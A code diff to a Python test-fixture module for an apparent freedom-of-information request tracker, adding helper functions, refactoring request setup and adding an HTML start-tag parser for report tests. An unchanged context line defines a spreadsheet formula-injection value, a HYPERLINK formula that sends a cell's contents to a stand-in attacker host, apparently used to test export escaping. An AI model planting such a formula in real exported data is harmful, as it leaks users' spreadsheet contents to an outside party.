@@ -10,6 +10,7 @@ import hashlib
 import json
 from dataclasses import dataclass, field
 from datetime import UTC, datetime
+from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
 
@@ -162,6 +163,21 @@ def add_in(
 
 ANSWERS = json.dumps({"q1": "No contact with Fusus.", "q2": "N/A", "q3": "No communications received."})
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+def add_answered(store: Store, ident: str, reference: str, outcome: str, at: str, text: str, **request: Any) -> int:
+    """A request answered by one reply at `at` (its first), of the outcome's kind; the request's id."""
+    request_id = add_request(store, ident, reference, status="answered", outcome=outcome, outcome_at=at,
+                             first_reply_at=at, **request)
+    add_in(store, request_id, outcome, at, text)
+    return request_id
+
+
+def add_second_run(store: Store, run: str, reference: str) -> None:
+    """A second run beside the built one: one request, to Barnet, still awaiting a reply."""
+    with store.transaction():
+        add_run(store, run)
+        add_request(store, "barnet", reference, run=run)
 
 
 def build(folder: Path) -> Built:
@@ -320,46 +336,13 @@ def build(folder: Path) -> Built:
         add_in(store, ids["extended"], "extension", "2023-05-10T09:00:00+00:00", "We need more time.")
         add_in(store, ids["extended"], "partially_provided", "2023-06-05T09:00:00+00:00", "Some is attached.")
 
-        ids["scot"] = add_request(
-            store,
-            "scot",
-            "FB-MMMMM2",
-            status="answered",
-            outcome="information_provided",
-            outcome_at="2023-05-12T09:00:00+00:00",
-            first_reply_at="2023-05-12T09:00:00+00:00",
-        )
-        add_in(store, ids["scot"], "information_provided", "2023-05-12T09:00:00+00:00", "Here it is.")
-
-        ids["ncnd"] = add_request(
-            store,
-            "ncnd",
-            "FB-NNNNN2",
-            status="answered",
-            outcome="neither_confirm_nor_deny",
-            outcome_at="2023-05-17T15:00:00+00:00",
-            first_reply_at="2023-05-17T15:00:00+00:00",
-            exemptions="s23(5);s24(2)",
-        )
-        add_in(
-            store,
-            ids["ncnd"],
-            "neither_confirm_nor_deny",
-            "2023-05-17T15:00:00+00:00",
-            "We can neither confirm nor deny.",
-        )
-
-        ids["formula"] = add_request(
-            store,
-            "formula",
-            "FB-PPPPP2",
-            status="answered",
-            outcome="not_held",
-            outcome_at="2023-05-02T09:00:00+00:00",
-            authority_ref="@ref-1",
-            first_reply_at="2023-05-02T09:00:00+00:00",
-        )
-        add_in(store, ids["formula"], "not_held", "2023-05-02T09:00:00+00:00", "Not held.")
+        ids["scot"] = add_answered(store, "scot", "FB-MMMMM2", "information_provided", "2023-05-12T09:00:00+00:00",
+                                   "Here it is.")
+        ids["ncnd"] = add_answered(store, "ncnd", "FB-NNNNN2", "neither_confirm_nor_deny",
+                                   "2023-05-17T15:00:00+00:00", "We can neither confirm nor deny.",
+                                   exemptions="s23(5);s24(2)")
+        ids["formula"] = add_answered(store, "formula", "FB-PPPPP2", "not_held", "2023-05-02T09:00:00+00:00",
+                                      "Not held.", authority_ref="@ref-1")
 
         # A reply nobody could file: in triage, counted nowhere in the table.
         add_in(
@@ -373,3 +356,19 @@ def build(folder: Path) -> Built:
             from_addr="someone@elsewhere.example",
         )
     return built
+
+
+class _StartTags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+
+def elements(page: str) -> list[tuple[str, dict[str, str | None]]]:
+    """Every start tag of a published page, in order, with its attributes (for the report's tests)."""
+    parser = _StartTags()
+    parser.feed(page)
+    return parser.tags
